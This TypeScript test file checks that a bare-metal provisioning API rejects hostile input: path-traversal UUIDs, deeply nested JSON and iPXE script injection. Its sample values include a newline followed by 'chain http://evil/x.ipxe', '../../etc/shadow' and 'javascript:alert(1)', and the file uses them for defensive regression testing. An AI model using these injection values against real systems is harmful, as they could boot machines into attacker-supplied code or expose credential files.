// Hostile input the API used to store or choke on (issue #18, items 8, 9 and 11): a resource uuid
// that is not a UUID, JSON nested thousands of levels deep, and driver_info/instance_info values
// that would add lines to a machine's iPXE script. Each is now a 400 that names the problem.
import { expect } from 'chai';
import { startApi, type ApiHarness } from '../../helpers/api-harness.js';

const L = { version: 'latest' };

describe('API: hostile input', function () {
  this.timeout(30_000);
  let api: ApiHarness;
  let nodeUuid: string;

  before(async () => {
    api = await startApi();
    nodeUuid = (await api.call('POST', '/v1/nodes', { driver: 'fake-hardware', name: 'target' }, L)).body.uuid;
  });
  after(async () => {
    await api?.stop();
  });

  describe('a client-chosen uuid must be a UUID (before: "../x" made a port no URL could reach)', () => {
    const bodies: [string, () => Record<string, unknown>][] = [
      ['/v1/ports', () => ({ address: '52:54:00:aa:00:01', node_uuid: nodeUuid })],
      ['/v1/portgroups', () => ({ node_uuid: nodeUuid })],
      ['/v1/chassis', () => ({ description: 'rack 1' })],
      ['/v1/volume/connectors', () => ({ node_uuid: nodeUuid, type: 'iqn', connector_id: 'iqn.2024-01.org:x' })],
      ['/v1/volume/targets', () => ({ node_uuid: nodeUuid, volume_type: 'iscsi', boot_index: 0, volume_id: 'v1' })],
      ['/v1/deploy_templates', () => ({ name: 'CUSTOM_X', steps: [] })],
      ['/v1/allocations', () => ({ resource_class: 'baremetal' })],
    ];
    for (const [path, body] of bodies) {
      it(`${path}: "../x" → 400 naming "uuid"`, async () => {
        for (const uuid of ['../x', 'not-a-uuid', '', '5c9dcd04-2073-49bc-9618-99ae634d897']) {
          const r = await api.call('POST', path, { ...body(), uuid }, L);
          expect(r.status, `${path} ${uuid}`).to.equal(400);
          expect(r.message).to.match(/Field "uuid" of .* must be a UUID/);
        }
      });
    }

    it('an upper-case UUID is stored lower-case, so the port can be shown and deleted by it', async () => {
      const upper = '5C9DCD04-2073-49BC-9618-99AE634D8971';
      const created = await api.call('POST', '/v1/ports', { address: '52:54:00:aa:00:02', node_uuid: nodeUuid, uuid: upper }, L);
      expect(created.status).to.equal(201);
      expect(created.body.uuid).to.equal(upper.toLowerCase());
      expect((await api.call('GET', `/v1/ports/${upper}`, undefined, L)).status).to.equal(200);
      expect((await api.call('DELETE', `/v1/ports/${upper}`, undefined, L)).status).to.equal(204);
    });
  });

  describe('deeply nested JSON (before: a RangeError and a 500)', () => {
    const nested = (levels: number) => `${'['.repeat(levels)}${']'.repeat(levels)}`;

    it('5,000 levels in a node body → 400 naming the limit, and the server still answers', async () => {
      const raw = `{"driver": "fake-hardware", "extra": {"deep": ${nested(5000)}}}`;
      const r = await api.call('POST', '/v1/nodes', undefined, { ...L, raw });
      expect(r.status).to.equal(400);
      expect(r.message).to.match(/more than 100 levels deep/);
      const patch = await api.call('PATCH', `/v1/nodes/${nodeUuid}`, undefined, {
        ...L,
        raw: `[{"op": "add", "path": "/extra/x", "value": ${nested(5000)}}]`,
      });
      expect(patch.status).to.equal(400);
      expect((await api.call('GET', `/v1/nodes/${nodeUuid}`, undefined, L)).status).to.equal(200);
    });

    it('brackets inside strings do not count, and a body within the limit is stored', async () => {
      const r = await api.call(
        'POST',
        '/v1/nodes',
        { driver: 'fake-hardware', extra: { s: '['.repeat(5000), d: JSON.parse(nested(50)) } },
        L,
      );
      expect(r.status).to.equal(201);
    });

    it('the unauthenticated agent endpoints refuse it too', async () => {
      const r = await api.call('POST', `/v1/heartbeat/${nodeUuid}`, undefined, { ...L, raw: `{"callback_url": ${nested(5000)}}` });
      expect(r.status).to.equal(400);
      const c = await api.call('POST', '/v1/continue_inspection', undefined, { ...L, raw: `{"inventory": ${nested(5000)}}` });
      expect(c.status).to.equal(400);
    });
  });

  describe('values that reach an iPXE script (before: a newline in rescue_kernel added a line)', () => {
    const patch = (path: string, value: unknown) => api.call('PATCH', `/v1/nodes/${nodeUuid}`, [{ op: 'add', path, value }], L);

    it('a PATCH with a newline, a space or an iPXE expansion → 400 naming the field', async () => {
      const bad: [string, string][] = [
        ['/driver_info/rescue_kernel', 'http://images/r.kernel\nchain http://evil/x.ipxe'],
        ['/driver_info/deploy_kernel', 'tyr.kernel initrd=http://evil/'],
        ['/driver_info/deploy_ramdisk', 'http://images/${evil}'],
        ['/driver_info/rescue_ramdisk', '../../etc/shadow'],
        ['/driver_info/kernel_append_params', 'console=ttyS0\nchain http://evil/'],
        ['/instance_info/kernel', 'javascript:alert(1)'],
        ['/instance_info/kernel_append_params', 'a ${net0/mac}'],
      ];
      for (const [path, value] of bad) {
        const r = await patch(path, value);
        expect(r.status, path).to.equal(400);
        expect(r.message, path).to.contain(`"${path.slice(1)}"`);
      }
      const node = (await api.call('GET', `/v1/nodes/${nodeUuid}`, undefined, L)).body;
      expect(node.driver_info).to.not.have.property('rescue_kernel');
    });

    it('a POST with one → 400; URLs, file names and image UUIDs are accepted', async () => {
      const r = await api.call('POST', '/v1/nodes', { driver: 'fake-hardware', driver_info: { deploy_ramdisk: 'x\r\nboot' } }, L);
      expect(r.status).to.equal(400);
      expect(r.message).to.contain('"driver_info/deploy_ramdisk"');
      const ok = await api.call(
        'POST',
        '/v1/nodes',
        {
          driver: 'fake-hardware',
          driver_info: {
            deploy_kernel: 'https://images.example:8443/ipa/ipa.kernel?sig=a%2Fb',
            deploy_ramdisk: 'ipa/tyr.initramfs',
            kernel_append_params: 'nofb vga=normal ipa-debug=1',
          },
          instance_info: { kernel: '6f9a4c38-1e63-4a48-a46d-0a0f1b1c3d2e', ramdisk: '/ramdisk.img' },
        },
        L,
      );
      expect(ok.status, ok.message).to.equal(201);
    });
  });
});
